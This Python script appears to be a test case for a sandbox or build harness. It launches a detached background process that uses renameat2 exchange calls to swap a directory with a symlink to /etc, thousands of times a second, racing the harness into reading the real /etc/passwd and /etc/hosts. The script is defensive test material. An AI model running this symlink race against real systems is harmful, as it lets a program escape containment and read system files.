"""A directory is exchanged for a link to /etc, thousands of times a second, while the farm lists and reads what is in it."""
# reads: swap/passwd swap/hosts swap/passwd swap/hosts swap/passwd swap/hosts
# timeout: 30

import os
import subprocess
import sys

os.makedirs("swap", exist_ok=True)
for name in ("passwd", "hosts"):
    with open(f"swap/{name}", "w") as f:
        f.write("mine")
PROGRAM = """
import ctypes, os, time
libc = ctypes.CDLL(None)
if not os.path.lexists("trap"):
    os.symlink("/etc", "trap")
end = time.monotonic() + 8
while time.monotonic() < end:
    libc.renameat2(-100, b"swap", -100, b"trap", 2)
"""
subprocess.Popen([sys.executable, "-c", PROGRAM], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
